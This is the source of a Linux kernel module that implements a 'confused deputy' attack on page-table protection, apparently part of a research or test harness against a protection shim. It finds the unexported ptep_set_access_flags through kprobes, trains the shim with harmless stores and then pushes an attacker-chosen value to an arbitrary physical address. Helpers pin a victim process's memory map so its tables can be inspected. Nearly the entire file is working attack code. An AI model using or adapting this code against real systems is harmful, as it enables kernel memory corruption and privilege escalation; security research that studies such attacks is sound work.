// SPDX-License-Identifier: GPL-2.0
/*
 * A confused deputy: one of the kernel's own page-table writers, called with a
 * pointer and a value of the attacker's. Provenance is in order then; what is
 * left are the rules for the value. The shim remembers the stores of such a
 * function (fast path), so it is taught with good ones first.
 */
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/pid.h>
#include <linux/preempt.h>
#include <linux/sched/mm.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <asm/pgtable.h>

#include "attack.h"

#define LESSONS		4
#define SOFT_BIT	0x100UL	/* RSW: software's, allowed in any leaf */

static int (*set_access_flags)(struct vm_area_struct *vma, unsigned long va, pte_t *ptep,
			       pte_t entry, int dirty);

/**
 * attack_symbol() - address of a function that is not exported
 * @name: its name
 *
 * Return: the address, or NULL. A probe at the very entry may be ftrace's.
 */
void *attack_symbol(const char *name)
{
	unsigned int offset;

	for (offset = 0; offset <= 8; offset += 8) {
		struct kprobe probe = { .symbol_name = name, .offset = offset };

		if (register_kprobe(&probe))
			continue;
		unregister_kprobe(&probe);
		return (void *)probe.addr - offset;
	}
	return NULL;
}

/* It may flush the TLBs of the harts that run on the mm: of none. */
static struct vm_area_struct vma;

/** attack_deputy_init() - find the writer; may sleep */
int attack_deputy_init(void)
{
	if (!set_access_flags)
		set_access_flags = attack_symbol("ptep_set_access_flags");
	if (!vma.vm_mm)
		vma.vm_mm = kzalloc(sizeof(*vma.vm_mm) + cpumask_size(), GFP_KERNEL);
	return set_access_flags && vma.vm_mm ? 0 : -ENOENT;
}

/** attack_deputy_exit() - nobody calls it any more */
void attack_deputy_exit(void)
{
	kfree(vma.vm_mm);
}

/**
 * attack_deputy() - let the writer store
 * @addr: where to; need not be aligned
 * @value: what, never executable
 *
 * Return: 0, or -EFAULT if the memory does not hold it afterwards.
 */
int attack_deputy(void *addr, u64 value)
{
	u64 now;

	set_access_flags(&vma, 0, addr, __pte(value & ~_PAGE_EXEC), 0);
	if (copy_from_kernel_nofault(&now, addr, sizeof(now)))
		return -EFAULT;
	return now == (value & ~_PAGE_EXEC) ? 0 : -EFAULT;
}

/**
 * attack_learnt() - SCHOOL PA VALUE: good stores to SCHOOL, then a bad one to PA
 *
 * All on one hart and by the same instruction: the shim knows it by then.
 */
int attack_learnt(const u64 *arg, struct seq_buf *out)
{
	unsigned int i, taught = 0;
	u64 before, after, good;
	int err = attack_deputy_init();

	if (err)
		return err;
	if (copy_from_kernel_nofault(&good, __va(arg[0]), sizeof(good)) ||
	    copy_from_kernel_nofault(&before, __va(arg[1]), sizeof(before)))
		return -EFAULT;
	preempt_disable();
	for (i = 0; i < LESSONS; i++) {
		good ^= SOFT_BIT;
		taught += !attack_deputy(__va(arg[0]), good);
	}
	attack_deputy(__va(arg[1]), arg[2]);
	preempt_enable();
	if (copy_from_kernel_nofault(&after, __va(arg[1]), sizeof(after)))
		return -EFAULT;
	seq_buf_printf(out, "taught=%u of=%u store=%s old=%#llx now=%#llx\n", taught, LESSONS,
		       before == after ? "refused" : "done", before, after);
	return 0;
}

/* --- a process that is killed for this keeps its tables until we have looked ------- */

static struct mm_struct *pinned;

/** attack_unpin() - let it go */
int attack_unpin(const u64 *arg, struct seq_buf *out)
{
	if (pinned)
		mmput(pinned);
	pinned = NULL;
	return 0;
}

/** attack_pin() - PID: its mm does not end before "unpin" */
int attack_pin(const u64 *arg, struct seq_buf *out)
{
	struct pid *id = find_get_pid(arg[0]);
	struct task_struct *task = get_pid_task(id, PIDTYPE_PID);

	put_pid(id);
	if (!task)
		return -ESRCH;
	attack_unpin(NULL, NULL);
	pinned = get_task_mm(task);
	put_task_struct(task);
	return pinned ? 0 : -EINVAL;
}
